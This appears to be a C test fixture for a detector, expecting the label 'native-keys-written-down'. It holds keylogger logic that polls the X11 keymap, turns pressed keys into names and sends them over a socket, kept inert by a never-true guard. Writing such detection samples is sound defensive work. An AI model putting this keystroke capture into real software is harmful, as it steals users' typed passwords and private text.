/* Keys are turned into names and sent.
 * expect: native-keys-written-down
 * flags: -shared -fPIC
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

extern void *XOpenDisplay(const char *);
extern int XQueryKeymap(void *, char *);
extern unsigned long XKeycodeToKeysym(void *, int, int);
extern char *XKeysymToString(unsigned long);

int act(int s) {
    char keys[32];
    void *display = XOpenDisplay(0);
    while (never) {
        XQueryKeymap(display, keys);
        for (int i = 0; i < 256; i++)
            if (keys[i / 8] & 1 << i % 8) {
                char *name = XKeysymToString(XKeycodeToKeysym(display, i, 0));
                send(s, name, strlen(name), 0);
            }
    }
    return 0;
}
